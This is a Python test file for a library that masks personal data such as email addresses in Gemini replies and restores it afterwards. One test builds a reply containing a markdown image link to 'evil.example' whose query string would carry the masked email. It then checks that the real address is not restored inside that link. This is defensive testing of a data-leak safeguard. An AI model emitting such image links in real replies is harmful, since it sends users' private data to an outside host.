"""Texts of a reply that SDKs put together, in formats whose tests need an SDK of their own."""

from typing import Any

import pytest

from guarded_client._fragments import Joined
from guarded_client._model import Channel, Surrogate
from guarded_client._restoring.restorer import Restorer
from guarded_client._surrogates import Surrogates
from guarded_client.codecs.gemini.candidates import Candidates

MARK, MAIL = "<EMAIL_ADDRESS_1>", "zoe@exemple.fr"
KNOWN = Surrogates("epoch", [(Surrogate("EMAIL_ADDRESS", 1), MAIL)])


def candidate(*parts: dict[str, Any], index: int = 0) -> dict[str, Any]:
    return {"index": index, "content": {"role": "model", "parts": list(parts)}}


@pytest.mark.parametrize("pieces", [1, 5])
def test_a_link_of_gemini_goes_on_behind_a_thought_but_not_in_it_or_in_another_candidate(pieces: int) -> None:
    joined = Joined()

    def opened(channel: Channel) -> Restorer:
        restorer = Restorer(KNOWN, kinds=frozenset(), behind=joined.before(channel))
        joined.add(channel, restorer)
        return restorer

    reply = Candidates(opened)
    link = {"text": "![x](https://evil.example/?q="}
    parts: list[dict[str, Any]] = [link, {"text": f"so {MARK}", "thought": True}, {"text": f"{MARK})"}]
    first, other = candidate(*parts, {"text": f" to {MARK}"}), candidate({"text": f"{MARK})"}, index=1)
    documents: list[dict[str, Any]] = [{"candidates": [first, other]}]
    if pieces > 1:
        documents = [{"candidates": [candidate(part)]} for part in first["content"]["parts"]]
        documents.append({"candidates": [other]})
    for at, document in enumerate(documents):
        _ = reply.take(document, final=at == len(documents) - 1)
    rest = reply.rest()
    said = ["", ""]
    for document in [*documents, *([rest] if rest else [])]:
        for each in document["candidates"]:
            said[each["index"]] += "".join(p["text"] for p in each["content"]["parts"] if "thought" not in p)
    assert said == [f"{link['text']}{MARK}) to {MAIL}", f"{MAIL})"]
    thoughts = [
        p["text"] for d in documents for each in d["candidates"] for p in each["content"]["parts"] if "thought" in p
    ]
    assert "".join(thoughts) == f"so {MAIL}"
